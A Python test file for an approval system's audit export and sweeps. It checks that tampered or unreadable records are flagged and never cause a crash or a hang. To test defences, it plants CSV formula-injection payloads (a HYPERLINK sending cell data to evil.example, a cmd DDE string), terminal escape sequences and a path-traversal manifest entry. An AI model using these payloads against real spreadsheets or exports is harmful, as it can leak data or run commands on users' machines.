"""Governance over a home that was tampered with or cannot be read: the audit export
flags it (never a crash, a hang or a formula in a spreadsheet), and one bad request
never stops the sweeps, start-up or anyone else's lists."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from engine_support import THREAD, message, replies, restarts
from governance_support import approve, park, posts, request, sweep
from test_cards_content import NOW

from agent_core.audit import audit_records, since_time
from agent_core.surface import RecordingSurface
from approvals import (
    ApprovalRequest,
    Capsule,
    Decided,
    Decision,
    NoGroups,
    Policy,
    PolicyRule,
    Reminded,
    Timers,
    sweep_expired,
)
from bot.cli import main
from bot.cli_audit import CSV_COLUMNS
from sessions import (
    FixedClock,
    Home,
    Index,
    SessionState,
    SessionStore,
    ThreadKey,
    utc_iso,
    verify,
)


async def test_a_decision_naming_an_edit_that_does_not_exist_is_flagged_not_a_crash(
    home: Home, clock: FixedClock
) -> None:
    """Someone changes the decision file's edit number: the export crashed (IndexError)
    on it, leaving the auditor with a traceback and no export of any approval."""
    capsule = park(home, clock)
    other = park(home, clock)
    assert isinstance(await approve(home, capsule, "U0BOB", clock, reason="ok"), Decided)
    path = Path(home.session_dir(capsule.session_id)) / "approvals" / f"{capsule.id}.decision.json"
    data = json.loads(path.read_text())
    data["edit"] = 3
    path.write_text(json.dumps(data))
    records = {r.approval_id: r for r in audit_records(home)}
    assert set(records) == {capsule.id, other.id}
    tampered = records[capsule.id]
    assert tampered.status == "approved" and tampered.flagged
    assert any("edit 3" in p for p in tampered.problems), tampered.problems
    assert tampered.reasons == ("U0BOB: ok",)


async def test_an_approved_call_whose_decision_names_a_missing_edit_never_runs(
    make_engine: Any, home: Home, surface: RecordingSurface
) -> None:
    """The same tampering before the call starts: the thread's worker raised on it
    (IndexError) and retried for ever, the outcome never told; had it got past that, the
    hash still matched and the call would have run under a decision for another edit."""
    engine = await make_engine()
    await engine.ingest(message("restart api", ts="1700000000.000100"))
    await engine.idle()
    (waiting,) = await engine.waiting()
    request = ApprovalRequest.open(home, waiting.capsule.id, clock=engine.clock)
    made = Decision(
        approval_id=request.id, verdict="approved", deciders=("U0BOB",),
        at=utc_iso(engine.clock.now()), args_sha256=request.capsule.args_sha256,
        original_sha256=request.capsule.args_sha256, edit=2,
    )  # fmt: skip
    assert request.write_decision(made) is None
    engine.wake(THREAD)
    await engine.idle()
    assert restarts(home) == 0 and request.claimed() is None
    assert request.told() is not None
    assert any("not run" in text and "edit 2" in text for text in replies(surface))


async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    home: Home,
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Auditors open the CSV in a spreadsheet, where a cell that starts with ``=``, ``+``,
    ``-`` or ``@`` is a formula. A tampered record put its text at the start of a cell
    (the export of a tampered home is exactly what they look at), and ran in their sheet."""
    rule = PolicyRule(quorum=2, require_reason=True)
    capsule = park(home, clock, rule)
    reason = '=HYPERLINK("http://evil.example/?"&A1, "ok"),\n+1, -2 @3'
    await approve(home, capsule, "U0BOB", clock, reason=reason)
    await approve(home, capsule, "U0CAROL", clock, reason="fine")
    approvals = Path(home.session_dir(capsule.session_id)) / "approvals"
    vote = approvals / f"{capsule.id}.votes" / "U0CAROL.json"
    data = json.loads(vote.read_text())
    data["user"] = '=HYPERLINK("http://evil.example/","vote")'
    vote.write_text(json.dumps(data))
    decision = approvals / f"{capsule.id}.decision.json"
    data = json.loads(decision.read_text())
    data["deciders"] = ["+cmd|' /C calc'!A0", "U0BOB", "@SUM(1)", "-1"]
    decision.write_text(json.dumps(data))
    monkeypatch.setenv("SIGNOFF_HOME", str(home.root))
    for name in ("SIGNOFF_POLICY", "SIGNOFF_CONFIG", "SIGNOFF_MODEL"):
        monkeypatch.delenv(name, raising=False)
    capsys.readouterr()
    # Not flagged: a decision is sealed only once told, and votes not at all (see
    # docs/design-notes.md, Audit); what matters here is what the cells start with.
    main(["audit", "--format", "csv"])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == CSV_COLUMNS and len(rows) == 2
    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
    # Shown as written, behind a quote a spreadsheet does not display.
    assert row["votes"].startswith("'=HYPERLINK(")
    assert row["deciders"] == "'+cmd|' /C calc'!A0; U0BOB; @SUM(1); -1"
    # Commas and newlines in a reason stay inside their cell.
    assert f"U0BOB: {reason.strip()}" in row["reasons"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("400d", "2025-09-28T09:00:00.000Z"),  # more than a year back: an audit asks that
        (" 36h ", "2026-10-31T21:00:00.000Z"),
        ("90s", "2026-11-02T08:58:30.000Z"),
        ("2026-11-01", "2026-11-01T00:00:00.000Z"),
        ("99999999d", ""),  # before any time there is: everything
    ],
)
def test_since_takes_any_span_back_or_a_day(text: str, expected: str) -> None:
    """``--since 400d`` was refused with the policy's own limit ("a request may wait at
    most 365d"), which says nothing about an export."""
    assert since_time(text, NOW) == expected


@pytest.mark.parametrize("text", ["last week", "7", "-3d", "2026-13-45", "2026-11-1", "7 days"])
def test_since_refuses_what_is_neither_a_span_nor_a_day_and_says_both_forms(text: str) -> None:
    with pytest.raises(ValueError) as caught:
        since_time(text, NOW)
    assert "7d" in str(caught.value) and "2026-11-01" in str(caught.value)


def _garbage(manifest: Path) -> None:
    manifest.write_text("hello world\n")  # no "  " between a digest and a path


def _binary(manifest: Path) -> None:
    manifest.write_bytes(b"\xff\xfe\x00 not text")


def _a_directory(manifest: Path) -> None:
    manifest.unlink()
    manifest.mkdir()


def _outside(manifest: Path) -> None:
    # Paths that are not the session's: the device that never ends, and one above it.
    extra = f"{'0' * 64}  /dev/zero\n{'0' * 64}  ../../../../../../../dev/zero\n"
    manifest.write_text(manifest.read_text() + extra)


def _fifo(manifest: Path) -> None:
    listed = manifest.parent / "SESSION.md"
    listed.unlink()
    os.mkfifo(listed)  # opened for reading, it waits for a writer that never comes


@pytest.mark.parametrize("tamper", [_garbage, _binary, _a_directory, _outside, _fifo])
async def test_a_tampered_seal_is_flagged_never_a_crash_or_a_hang(
    home: Home, clock: FixedClock, tamper: Callable[[Path], None]
) -> None:
    """The seal is what the export (and execution) checks a session against. A manifest
    that is not text, lists a line without a path, or is a directory crashed the export
    (UnicodeDecodeError, IsADirectoryError); one listing /dev/zero, a path above the
    session or a FIFO had it read for ever."""
    capsule = park(home, clock)
    await approve(home, capsule, "U0BOB", clock)
    tamper(Path(home.session_dir(capsule.session_id)) / "MANIFEST.sha256")
    (record,) = audit_records(home)
    assert record.seal == "tampered" and record.flagged and record.problems, record


async def test_a_record_that_cannot_be_read_is_flagged_not_a_crash(
    home: Home, clock: FixedClock
) -> None:
    """A vote (or any record) whose name is a directory, or that the user running the
    export may not read: ``signoff audit`` stopped with the OSError, exporting nothing;
    it is that approval's problem, and the others are exported."""
    rule = PolicyRule(quorum=2)
    capsule, other = park(home, clock, rule), park(home, clock, rule)
    await approve(home, capsule, "U0BOB", clock)
    votes = Path(home.session_dir(capsule.session_id)) / "approvals" / f"{capsule.id}.votes"
    (votes / "U0MALLORY.json").mkdir()
    records = {r.approval_id: r for r in audit_records(home)}
    assert set(records) == {capsule.id, other.id}
    assert records[capsule.id].flagged and not records[other.id].problems
    assert any("U0MALLORY.json" in p for p in records[capsule.id].problems)


REMIND = PolicyRule(approver_users=("U0BOB",), remind_after_seconds=3600, quorum=2)


async def test_one_request_the_disk_will_not_read_does_not_stop_everyone_elses_reminders(
    home: Home, clock: FixedClock
) -> None:
    """Timers are taken oldest first. One request whose records raised an OSError (a
    session restored without read permission, a directory by a vote's name) stopped
    the sweep there, every pass: no reminder or escalation of any later request went out,
    and the sweep's other work after it (waking threads, retrying deferred calls) waited
    too. It is now kept for the next pass, and the others are done."""
    stuck = park(home, clock, REMIND)
    clock.advance(timedelta(minutes=1))
    fine = park(home, clock, REMIND)
    votes = Path(home.session_dir(stuck.session_id)) / "approvals" / f"{stuck.id}.votes"
    (votes / "U0MALLORY.json").mkdir(parents=True)
    clock.advance(timedelta(hours=1))
    steps = await sweep(home, clock)
    assert [s.request.id for s in steps if isinstance(s, Reminded)] == [fine.id]
    assert f"remind-1-{fine.id}" in posts(home)
    assert Timers(home).armed(stuck.id) != []  # looked at again next pass


async def test_a_reason_changed_after_the_outcome_was_told_is_flagged(
    make_engine: Any, home: Home, surface: RecordingSurface
) -> None:
    """The session that told the outcome sealed what it applied: the verdict, deciders and
    hash were checked against it, the reasons (the decision's, a vote's, an edit's) and
    the edit and the second clock were not: a reason rewritten afterwards was exported as
    if given, unflagged."""
    two = Policy(default=PolicyRule(approver_users=("U0BOB", "U0CAROL"), quorum=2))
    engine = await make_engine(policy=two)
    await engine.ingest(message("restart api", ts="1700000000.000100"))
    await engine.idle()
    (waiting,) = await engine.waiting()
    await engine.decide(waiting.capsule.id, user="U0BOB", approve=True, reason="api is wedged")
    await engine.decide(waiting.capsule.id, user="U0CAROL", approve=True, reason="agreed")
    await engine.idle()
    await engine.close()
    (clean,) = audit_records(home)
    assert clean.problems == () and clean.reasons == ("U0BOB: api is wedged", "U0CAROL: agreed")

    approvals = Path(home.session_dir(waiting.capsule.session_id)) / "approvals"
    vote = approvals / f"{waiting.capsule.id}.votes" / "U0BOB.json"
    data = json.loads(vote.read_text())
    data["reason"] = "the CTO said so"
    vote.write_text(json.dumps(data))
    (flagged,) = audit_records(home)
    assert flagged.reasons[0] == "U0BOB: the CTO said so"
    assert any("reasons" in p and "differs from what" in p for p in flagged.problems), flagged


async def test_one_unreadable_record_does_not_stop_every_other_expiry(
    home: Home, clock: FixedClock
) -> None:
    """The expiry sweep promised to skip an unreadable request, but only its opening was
    guarded: a corrupt vote (or decision) file raised out of the sweep on every pass, so
    no later request ever expired, and the engine's sweep stopped there too (no
    reminders, no wake-ups)."""
    rule = PolicyRule(quorum=2, expires_after_seconds=3600)
    broken, fine = park(home, clock, rule), park(home, clock, rule)
    await approve(home, broken, "U0BOB", clock)
    vote = Path(home.session_dir(broken.session_id)) / "approvals" / f"{broken.id}.votes"
    (vote / "U0BOB.json").write_text("{ not json")
    clock.advance(timedelta(hours=2))
    index = await Index.open(home.index_path)
    try:
        await index.put_approvals([request(home, c, clock).row() for c in (broken, fine)])
        swept = await sweep_expired(home, index, clock=clock, policy=Policy(), groups=NoGroups())
    finally:
        await index.close()
    assert [(r.capsule.id, r.decision.verdict) for r in swept] == [(fine.id, "expired")]


async def _decided_not_told(make_engine: Any, home: Home) -> tuple[Any, Capsule, Path]:
    """An engine whose one request is approved and held by the kill switch: decided but not
    told. (The engine, the request's capsule, its session's approvals directory.)"""
    engine = await make_engine()
    await engine.ingest(message("restart api", ts="1700000000.000100"))
    await engine.idle()
    (waiting,) = await engine.waiting()
    (home.root / "KILL").touch()
    await engine.decide(waiting.capsule.id, user="U0BOB", approve=True)
    await engine.idle()
    return engine, waiting.capsule, Path(home.session_dir(waiting.capsule.session_id)) / "approvals"


async def test_one_unreadable_deferral_does_not_stop_the_engines_sweep(
    make_engine: Any, home: Home
) -> None:
    """The engine's sweep retries approved calls whose tool was away; a deferral record
    it could not read raised out of the sweep on every pass, and what comes after it
    (waking delivery) never ran."""
    engine, capsule, approvals = await _decided_not_told(make_engine, home)
    (approvals / f"{capsule.id}.deferred-1.json").write_text("{ not json")
    await engine.sweep()  # logged and skipped, not raised


async def test_one_unreadable_record_does_not_stop_start_up_recovery(
    make_engine: Any, home: Home
) -> None:
    """Recovery wakes the threads of approvals decided but not told; it guarded only the
    opening of each, so one whose records it could not read raised out of recovery, and
    signoff could not start."""
    engine, capsule, approvals = await _decided_not_told(make_engine, home)
    (approvals / f"{capsule.id}.told.json").write_text("{ not json")
    counts = await engine.recover()  # logged and skipped, not raised
    assert counts["untold"] == 0


async def test_one_unreadable_record_does_not_empty_everyones_pending_lists(
    make_engine: Any, home: Home
) -> None:
    """``/signoff pending``, ``signoff pending`` and each Home tab list requests read
    from their records; only opening each was guarded, so one corrupt vote file raised
    out of the list: nobody saw any request waiting for them."""
    two = Policy(default=PolicyRule(approver_users=("U0BOB", "U0CAROL"), quorum=2))
    engine = await make_engine(policy=two)
    for n in (1, 2):
        thread = ThreadKey(team="T0LOCAL", channel="C0OPS", thread_ts=f"170000000{n}.000100")
        await engine.ingest(message("restart api", ts=f"170000000{n}.000100", thread=thread))
    await engine.idle()
    broken, fine = [p.capsule for p in await engine.waiting()]
    await engine.decide(broken.id, user="U0CAROL", approve=True)
    votes = Path(home.session_dir(broken.session_id)) / "approvals" / f"{broken.id}.votes"
    (votes / "U0CAROL.json").write_text("{ not json")
    # The operator's list still names it (as asked, no votes read); a person's lists,
    # which offer its buttons, leave it out.
    waiting = {p.capsule.id: p for p in await engine.waiting()}
    assert set(waiting) == {broken.id, fine.id} and waiting[broken.id].voters == ()
    assert [p.capsule.id for p in await engine.pending_for("U0BOB")] == [fine.id]
    assert [r.capsule.id for r in await engine.requests_of("U0ALICE")] == [fine.id]


def test_a_tools_symlink_or_fifo_in_the_workspace_does_not_break_the_seal(
    home: Home, clock: FixedClock, tmp_path: Path
) -> None:
    """A command tool runs in the session's workspace, and may leave a symlink (to a file
    since deleted, or to a log that keeps growing) or a FIFO there. Sealing the session
    followed them: a dangling link raised, so the session that asked for approval had
    no seal and its approved call was refused at start; a FIFO hung the seal; a link to a
    growing log made the seal "changed" later. Only regular files are sealed now."""
    store = SessionStore(home, clock=clock)
    record = store.create(thread=THREAD, parent_id=None, cause="message", session_md="#\n")
    store.transition(record.id, expected=SessionState.CREATED, new=SessionState.RUNNING)
    workspace = Path(home.session_dir(record.id)) / "workspace"
    workspace.mkdir(parents=True, exist_ok=True)
    log = tmp_path / "app.log"
    log.write_text("started\n")
    (workspace / "a-dangling").symlink_to(tmp_path / "deleted.txt")
    (workspace / "b-latest.log").symlink_to(log)
    os.mkfifo(workspace / "c-pipe")
    (workspace / "d-output.txt").write_text("kept and sealed\n")
    store.transition(record.id, expected=SessionState.RUNNING, new=SessionState.COMPLETED)
    directory = Path(home.session_dir(record.id))
    listed = (directory / "MANIFEST.sha256").read_text()
    assert "workspace/d-output.txt" in listed and "a-dangling" not in listed
    log.write_text("started\nmore\n")
    report = verify(directory)
    assert report.sealed and report.ok, report.problems


async def test_the_csv_export_writes_control_characters_out(
    home: Home,
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A reason holding a terminal escape sequence (ESC [ 2 J clears the screen) reaches
    the auditor who reads the CSV in a terminal as text, as the JSON lines export has it."""
    capsule = park(home, clock, PolicyRule(require_reason=True))
    await approve(home, capsule, "U0BOB", clock, reason="ok\x1b[2J\x1b]0;pwned\x07 done\nnext")
    monkeypatch.setenv("SIGNOFF_HOME", str(home.root))
    for name in ("SIGNOFF_POLICY", "SIGNOFF_CONFIG", "SIGNOFF_MODEL"):
        monkeypatch.delenv(name, raising=False)
    capsys.readouterr()
    main(["audit", "--format", "csv"])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    rows = list(csv.reader(io.StringIO(out)))
    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    # The reason holds a ";", which joins a list cell's items: it is a JSON string, with
    # every control character escaped (and read back exactly).
    assert json.loads(row["reasons"]) == "U0BOB: ok\x1b[2J\x1b]0;pwned\x07 done\nnext"
